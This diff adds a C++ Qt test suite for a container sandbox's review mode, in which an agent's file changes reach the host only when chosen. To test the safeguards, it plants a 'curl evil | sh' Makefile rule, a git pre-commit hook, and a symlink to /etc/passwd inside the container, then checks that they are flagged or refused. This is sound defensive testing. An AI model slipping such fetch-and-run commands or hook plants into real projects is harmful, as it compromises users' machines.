@@ -1,0 +1,377 @@
+// Review mode on real engines (SPEC §10, docs/review-mode.md): the folder is copied in through the exec channel
+// (no bind mount), minus the exclusions; nothing reaches the host until Apply; the change list is exact; Apply
+// writes only what was chosen, keeps the user's edits (a conflict), leaves flagged files and never follows a link;
+// the copy outlives the session and a restart of the app; Discard removes it.
+#include "sandbox/reviewservice.h"
+#include "sessionfixture.h"
+
+#include <QCryptographicHash>
+#include <QDirIterator>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QSignalSpy>
+
+#include <algorithm>
+
+using namespace zeus;
+using namespace zeus::test;
+
+namespace {
+
+const QString kOddName = QStringLiteral("项目 a,b:c \"q\"");
+
+bool writeFile(const QString& path, const QByteArray& data, QFileDevice::Permissions extra = {}) {
+    QFile file(path);
+    if (!file.open(QIODevice::WriteOnly | QIODevice::Truncate) || file.write(data) != data.size()) {
+        return false;
+    }
+    file.close();
+    return extra == QFileDevice::Permissions() || file.setPermissions(file.permissions() | extra);
+}
+
+QByteArray readFile(const QString& path) {
+    QFile file(path);
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(unreadable)");
+}
+
+// Every entry of a folder with its kind and content hash (links by target): the host's state, to compare.
+QStringList snapshot(const QString& root) {
+    QStringList lines;
+    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
+                    QDirIterator::Subdirectories);
+    while (it.hasNext()) {
+        const QString path = it.next();
+        const QFileInfo info(path);
+        const QString relative = QDir(root).relativeFilePath(path);
+        if (info.isSymLink()) {
+            lines << QStringLiteral("l %1 -> %2").arg(relative, info.symLinkTarget());
+        } else if (info.isDir()) {
+            lines << QStringLiteral("d %1").arg(relative);
+        } else {
+            QFile file(path);
+            QCryptographicHash hash(QCryptographicHash::Sha256);
+            if (file.open(QIODevice::ReadOnly)) {
+                hash.addData(&file);
+            }
+            lines << QStringLiteral("f %1 %2 %3")
+                         .arg(relative, QString::fromLatin1(hash.result().toHex()))
+                         .arg(info.isExecutable() ? 1 : 0);
+        }
+    }
+    lines.sort();
+    return lines;
+}
+
+QStringList changeLines(const QList<Change>& changes) {
+    QStringList lines;
+    for (const Change& change : changes) {
+        lines << Change::kindLetter(change.kind) + QLatin1Char(' ') + change.path;
+    }
+    lines.sort();
+    return lines;
+}
+
+const Change* changeAt(const QList<Change>& changes, const QString& path) {
+    const auto it = std::find_if(changes.cbegin(), changes.cend(), [&](const Change& c) { return c.path == path; });
+    return it == changes.cend() ? nullptr : &*it;
+}
+
+QString containerState(const QString& engine, const QString& id) {
+    const ProcessOutput out = runProgram(
+        engine, {QStringLiteral("inspect"), QStringLiteral("--format"), QStringLiteral("{{.State.Status}}"), id});
+    return out.exitCode == 0 ? QString::fromUtf8(out.out.trimmed()) : QStringLiteral("gone");
+}
+
+}  // namespace
+
+class TestReviewMode : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase();
+    void cleanup();
+    void engines_data();
+    void copyReviewApply_data() { engines_data(); }
+    void copyReviewApply();
+    void outlivesSessionAndRestart_data() { engines_data(); }
+    void outlivesSessionAndRestart();
+    void sizeCapIsAClearError();
+
+private:
+    std::unique_ptr<SessionManager> makeManager(const QString& engine, const QString& workspace,
+                                                const QString& owner = {});
+    ReviewStore store() const { return ReviewStore(m_dir.path() + QStringLiteral("/reviews")); }
+
+    QTemporaryDir m_dir;
+    QString m_owner;
+    QString m_engine;
+    int m_counter = 0;
+};
+
+void TestReviewMode::initTestCase() {
+    QVERIFY(m_dir.isValid());
+}
+
+void TestReviewMode::cleanup() {
+    if (!m_owner.isEmpty() && !m_engine.isEmpty()) {
+        removeContainersOf(m_engine, m_owner);
+    }
+}
+
+void TestReviewMode::engines_data() {
+    QTest::addColumn<QString>("engine");
+    QTest::newRow("docker") << QStringLiteral("docker");
+    QTest::newRow("podman") << QStringLiteral("podman");
+}
+
+std::unique_ptr<SessionManager> TestReviewMode::makeManager(const QString& engine, const QString& workspace,
+                                                            const QString& owner) {
+    m_engine = engine;
+    m_owner = owner.isEmpty() ? uniqueOwner() : owner;
+    SandboxConfig config = testConfig(m_owner);
+    config.folderWorkspaceModes.insert(workspace, WorkspaceMode::Review);
+    config.reviewDirectory = store().directory();
+    return std::make_unique<SessionManager>(ContainerRuntime::create(*runtimeKindFromString(engine)), config);
+}
+
+void TestReviewMode::copyReviewApply() {
+    QFETCH(QString, engine);
+    ZEUS_REQUIRE_ENGINE(engine);
+    const QString ws = makeWorkspace(m_dir, QStringLiteral("copy-") + engine);
+    QByteArray binary;
+    for (int i = 0; i < 4096; ++i) {
+        binary.append(char(i % 256));
+    }
+    QVERIFY(writeFile(ws + QStringLiteral("/text.txt"), "one\ntwo\nthree\n"));
+    QVERIFY(writeFile(ws + QStringLiteral("/bin.dat"), binary));
+    QVERIFY(writeFile(ws + QStringLiteral("/run.sh"), "#!/bin/sh\necho run\n", QFileDevice::ExeOwner));
+    QVERIFY(writeFile(ws + QStringLiteral("/notes.txt"), "notes\n"));
+    QVERIFY(writeFile(ws + QStringLiteral("/Makefile"), "all:\n\ttrue\n"));
+    QVERIFY(writeFile(ws + QStringLiteral("/.env"), "API_KEY=host-secret\n"));
+    QVERIFY(writeFile(ws + QStringLiteral("/id_rsa"), "PRIVATE KEY\n"));
+    QVERIFY(QDir().mkpath(ws + QStringLiteral("/empty")));
+    QVERIFY(QDir().mkpath(ws + QLatin1Char('/') + kOddName));
+    QVERIFY(writeFile(ws + QLatin1Char('/') + kOddName + QStringLiteral("/f.txt"), "odd\n"));
+    QVERIFY(QDir().mkpath(ws + QStringLiteral("/.git/hooks")));
+    QVERIFY(writeFile(ws + QStringLiteral("/.git/HEAD"), "ref: refs/heads/main\n"));
+    QVERIFY(QFile::link(QStringLiteral("text.txt"), ws + QStringLiteral("/inside-link")));
+    QVERIFY(QFile::link(QStringLiteral("/etc/hostname"), ws + QStringLiteral("/outside-link")));
+    {
+        QFile big(ws + QStringLiteral("/big.bin"));  // 100 MB, streamed, never whole in memory
+        QVERIFY(big.open(QIODevice::WriteOnly));
+        const QByteArray block(1024 * 1024, 'z');
+        for (int i = 0; i < 100; ++i) {
+            QCOMPARE(big.write(block), block.size());
+        }
+    }
+    const QStringList hostBefore = snapshot(ws);
+    const QByteArray passwdBefore = readFile(QStringLiteral("/etc/passwd"));
+
+    auto manager = makeManager(engine, ws);
+    Recorder recorder(*manager);
+    const QString session = QStringLiteral("review-") + engine;
+    // Copied in minus the exclusions, every kind of entry as it was, the odd name intact.
+    const ExecResult look = recorder.run(
+        session, ws,
+        QStringLiteral("cd /workspace && ls -A | sort && echo --- && cat \"项目 a,b:c \\\"q\\\"/f.txt\" && readlink "
+                       "inside-link outside-link && test -d empty && test -x run.sh && echo exec-ok && wc -c < big.bin "
+                       "&& cat .git/HEAD"),
+        0, 240000);
+    QVERIFY2(look.status == ExecStatus::Ok && look.exitCode == 0,
+             qPrintable(look.errorMessage + recorder.stderrOf.value(look.callId)));
+    const QString listing = recorder.stdoutOf.value(look.callId);
+    QVERIFY2(!listing.contains(QStringLiteral(".env")) && !listing.contains(QStringLiteral("id_rsa")),
+             qPrintable(listing));
+    for (const QString& name :
+         {QStringLiteral("text.txt"), QStringLiteral("bin.dat"), QStringLiteral("Makefile"), QStringLiteral(".git"),
+          QStringLiteral("empty"), kOddName, QStringLiteral("odd"), QStringLiteral("exec-ok"),
+          QStringLiteral("104857600"), QStringLiteral("/etc/hostname"), QStringLiteral("ref: refs/heads/main")}) {
+        QVERIFY2(listing.contains(name), qPrintable(name + QStringLiteral(" missing in:\n") + listing));
+    }
+    // No bind mount of the folder at all: the engine reports no mount with the folder as its source.
+    const QString containerId = manager->containerId(session);
+    const ProcessOutput mounts = runProgram(engine, {QStringLiteral("inspect"), QStringLiteral("--format"),
+                                                     QStringLiteral("{{json .Mounts}}"), containerId});
+    QCOMPARE(mounts.exitCode, 0);
+    QVERIFY2(!mounts.out.contains(ws.toUtf8()), mounts.out.constData());
+    const std::optional<ReviewRecord> record = store().record(session);
+    QVERIFY(record);
+    QCOMPARE(record->workspace, ws);
+    QCOMPARE(record->containerId, containerId);
+
+    // The agent adds, edits, deletes, chmods, plants a hook, links out of the folder, edits the Makefile.
+    const ExecResult work =
+        recorder.run(session, ws,
+                     QStringLiteral("cd /workspace && echo new > added.txt && echo four >> text.txt && rm bin.dat && "
+                                    "chmod +x notes.txt && mkdir newdir && echo x > newdir/inner.txt && ln -s "
+                                    "/etc/passwd evil-link && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && "
+                                    "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && "
+                                    "echo agent-env > .env && rm -r empty"));
+    QVERIFY2(work.status == ExecStatus::Ok && work.exitCode == 0, qPrintable(recorder.stderrOf.value(work.callId)));
+    QCOMPARE(snapshot(ws), hostBefore);  // nothing reached the host
+
+    const auto runtime = ContainerRuntime::create(*runtimeKindFromString(engine));
+    ReviewService::ListResult listed = ReviewService::listChanges(*runtime, store(), *record);
+    QVERIFY2(listed.ok, qPrintable(listed.error));
+    QCOMPARE(changeLines(listed.changes),
+             (QStringList{QStringLiteral("A .git/hooks/pre-commit"), QStringLiteral("A added.txt"),
+                          QStringLiteral("A evil-link"), QStringLiteral("A newdir"),
+                          QStringLiteral("A newdir/inner.txt"), QStringLiteral("D bin.dat"), QStringLiteral("D empty"),
+                          QStringLiteral("M Makefile"), QStringLiteral("M text.txt"), QStringLiteral("X notes.txt")}));
+    QVERIFY(changeAt(listed.changes, QStringLiteral("Makefile"))->flagged);
+    QVERIFY(changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))->flagged);
+    QVERIFY(!changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))->applicable);
+    QVERIFY(changeAt(listed.changes, QStringLiteral("evil-link"))->flagged);
+    QVERIFY(!changeAt(listed.changes, QStringLiteral("added.txt"))->flagged);
+
+    // The diff of a text change, from the container's copy against the host's baseline.
+    const ChangeDetail detail =
+        ReviewService::detailOf(*runtime, *record, *changeAt(listed.changes, QStringLiteral("text.txt")));
+    QVERIFY2(detail.ok, qPrintable(detail.error));
+    QVERIFY2(detail.unifiedDiff.contains(QStringLiteral("+four")), qPrintable(detail.unifiedDiff));
+    QVERIFY(!detail.hostChanged);
+
+    // Apply selected: only that file.
+    ReviewStore reviews = store();
+    QString error;
+    QList<ApplyOutcome> outcomes = ReviewService::applyChanges(
+        *runtime, reviews, *record, {*changeAt(listed.changes, QStringLiteral("added.txt"))}, false, &error);
+    QVERIFY2(error.isEmpty(), qPrintable(error));
+    QCOMPARE(outcomes.size(), 1);
+    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Applied);
+    QCOMPARE(readFile(ws + QStringLiteral("/added.txt")), QByteArray("new\n"));
+    QStringList expected = hostBefore;
+    expected << QStringLiteral("f added.txt %1 0")
+                    .arg(QString::fromLatin1(QCryptographicHash::hash("new\n", QCryptographicHash::Sha256).toHex()));
+    expected.sort();
+    QCOMPARE(snapshot(ws), expected);
+
+    // The user edits text.txt meanwhile; Apply all (what needs no confirmation of its own) then.
+    QVERIFY(writeFile(ws + QStringLiteral("/text.txt"), "mine\n"));
+    listed = ReviewService::listChanges(*runtime, store(), *record);
+    QVERIFY(listed.ok);
+    QVERIFY(!changeAt(listed.changes, QStringLiteral("added.txt")));  // applied: no longer a change
+    QList<Change> all;
+    for (const Change& change : std::as_const(listed.changes)) {
+        if (change.applicable && !change.flagged) {
+            all.append(change);
+        }
+    }
+    outcomes = ReviewService::applyChanges(*runtime, reviews, *record, all, false, &error);
+    QHash<QString, ApplyOutcome::Result> results;
+    for (const ApplyOutcome& outcome : std::as_const(outcomes)) {
+        results.insert(outcome.path, outcome.result);
+    }
+    QCOMPARE(results.value(QStringLiteral("text.txt")), ApplyOutcome::Result::Conflict);
+    QCOMPARE(readFile(ws + QStringLiteral("/text.txt")), QByteArray("mine\n"));  // stays the user's
+    QCOMPARE(results.value(QStringLiteral("bin.dat")), ApplyOutcome::Result::Applied);
+    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/bin.dat")));
+    QVERIFY(QFileInfo(ws + QStringLiteral("/notes.txt")).isExecutable());
+    QCOMPARE(readFile(ws + QStringLiteral("/newdir/inner.txt")), QByteArray("x\n"));
+    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/empty")));
+    // Flagged: left as they were by Apply all.
+    QCOMPARE(readFile(ws + QStringLiteral("/Makefile")), QByteArray("all:\n\ttrue\n"));
+    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/.git/hooks/pre-commit")));
+    QVERIFY(!QFileInfo(ws + QStringLiteral("/evil-link")).isSymLink());
+    QCOMPARE(readFile(ws + QStringLiteral("/.env")), QByteArray("API_KEY=host-secret\n"));
+
+    // The link, applied on its own confirmation, is made as a link and never followed.
+    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
+                                           {*changeAt(listed.changes, QStringLiteral("evil-link"))}, false, &error);
+    QCOMPARE(outcomes.size(), 1);
+    QCOMPARE(readFile(QStringLiteral("/etc/passwd")), passwdBefore);
+    if (outcomes.first().result == ApplyOutcome::Result::Applied) {
+        QCOMPARE(QFileInfo(ws + QStringLiteral("/evil-link")).symLinkTarget(), QStringLiteral("/etc/passwd"));
+    }
+    // The hook is never applied as a file, even when named.
+    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
+                                           {*changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))}, false,
+                                           &error);
+    QCOMPARE(outcomes.size(), 1);
+    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Refused);
+    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/.git/hooks/pre-commit")));
+
+    // "Take theirs" for the conflict: the user's explicit choice.
+    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
+                                           {*changeAt(listed.changes, QStringLiteral("text.txt"))}, true, &error);
+    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Applied);
+    QCOMPARE(readFile(ws + QStringLiteral("/text.txt")), QByteArray("one\ntwo\nthree\nfour\n"));
+
+    // Discard: the container and the record go.
+    QVERIFY2(ReviewService::discardCopy(*runtime, reviews, *record, &error), qPrintable(error));
+    QCOMPARE(containerState(engine, containerId), QStringLiteral("gone"));
+    QVERIFY(!store().record(session));
+    manager->endSession(session);
+}
+
+void TestReviewMode::outlivesSessionAndRestart() {
+    QFETCH(QString, engine);
+    ZEUS_REQUIRE_ENGINE(engine);
+    const QString ws = makeWorkspace(m_dir, QStringLiteral("life-") + engine);
+    QVERIFY(writeFile(ws + QStringLiteral("/a.txt"), "a\n"));
+    const QString owner = uniqueOwner();
+    const QString session = QStringLiteral("life-") + engine + QString::number(++m_counter);
+    QString containerId;
+    {
+        auto manager = makeManager(engine, ws, owner);
+        Recorder recorder(*manager);
+        const ExecResult done = recorder.run(session, ws, QStringLiteral("echo b > /workspace/b.txt"), 0, 120000);
+        QVERIFY2(done.status == ExecStatus::Ok && done.exitCode == 0, qPrintable(done.errorMessage));
+        containerId = manager->containerId(session);
+        QSignalSpy kept(manager.get(), &SessionManager::reviewCopyKept);
+        manager->endSession(session);
+        QVERIFY(kept.wait(60000));
+        QCOMPARE(kept.first().at(2).toInt(), 1);  // one changed file
+        QTRY_COMPARE_WITH_TIMEOUT(containerState(engine, containerId), QStringLiteral("exited"), 30000);
+        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/b.txt")));
+    }
+    // A restarted app: the orphan sweep keeps the copy (stopped), the session resumes it with the change in it.
+    {
+        auto manager = makeManager(engine, ws, owner);
+        QSignalSpy swept(manager.get(), &SessionManager::orphanSweepFinished);
+        manager->sweepOrphans();
+        QVERIFY(swept.wait(30000));
+        QCOMPARE(swept.first().first().toInt(), 0);
+        QVERIFY(containerState(engine, containerId) != QStringLiteral("gone"));
+        Recorder recorder(*manager);
+        const ExecResult again = recorder.run(session, ws, QStringLiteral("cat /workspace/b.txt"), 0, 120000);
+        QVERIFY2(again.status == ExecStatus::Ok && again.exitCode == 0, qPrintable(again.errorMessage));
+        QCOMPARE(recorder.stdoutOf.value(again.callId), QStringLiteral("b\n"));
+        QCOMPARE(manager->containerId(session), containerId);
+        // A session that ends with nothing to review leaves nothing behind.
+        const ExecResult undo = recorder.run(session, ws, QStringLiteral("rm /workspace/b.txt"));
+        QCOMPARE(undo.exitCode, 0);
+        manager->endSession(session);
+        QTRY_COMPARE_WITH_TIMEOUT(containerState(engine, containerId), QStringLiteral("gone"), 60000);
+        QVERIFY(!store().record(session));
+    }
+}
+
+void TestReviewMode::sizeCapIsAClearError() {
+    const QString engine = QStringLiteral("docker");
+    ZEUS_REQUIRE_ENGINE(engine);
+    const QString ws = makeWorkspace(m_dir, QStringLiteral("capped"));
+    QVERIFY(QDir().mkpath(ws + QStringLiteral("/node_stuff")));
+    QVERIFY(writeFile(ws + QStringLiteral("/node_stuff/blob"), QByteArray(64 * 1024, 'x')));
+    QVERIFY(writeFile(ws + QStringLiteral("/small.txt"), "s\n"));
+    m_engine = engine;
+    m_owner = uniqueOwner();
+    SandboxConfig config = testConfig(m_owner);
+    config.folderWorkspaceModes.insert(ws, WorkspaceMode::Review);
+    config.reviewDirectory = store().directory();
+    config.reviewSizeCap = 16 * 1024;
+    SessionManager manager(ContainerRuntime::create(RuntimeKind::Docker), config);
+    Recorder recorder(manager);
+    const ExecResult result = recorder.run(QStringLiteral("capped"), ws, QStringLiteral("echo never"), 0, 120000);
+    QCOMPARE(result.status, ExecStatus::Error);
+    QCOMPARE(result.errorCode, ExecError::WorkspaceInvalid);
+    QVERIFY2(result.errorMessage.contains(QStringLiteral("node_stuff")), qPrintable(result.errorMessage));
+    QVERIFY(!recorder.stdoutOf.value(result.callId).contains(QStringLiteral("never")));
+    QTRY_COMPARE_WITH_TIMEOUT(containersOf(engine, m_owner), QStringList(), 30000);  // never a partial copy left
+    QVERIFY(!store().record(QStringLiteral("capped")));
+}
+
+QTEST_GUILESS_MAIN(TestReviewMode)
+#include "tst_reviewmode.moc"
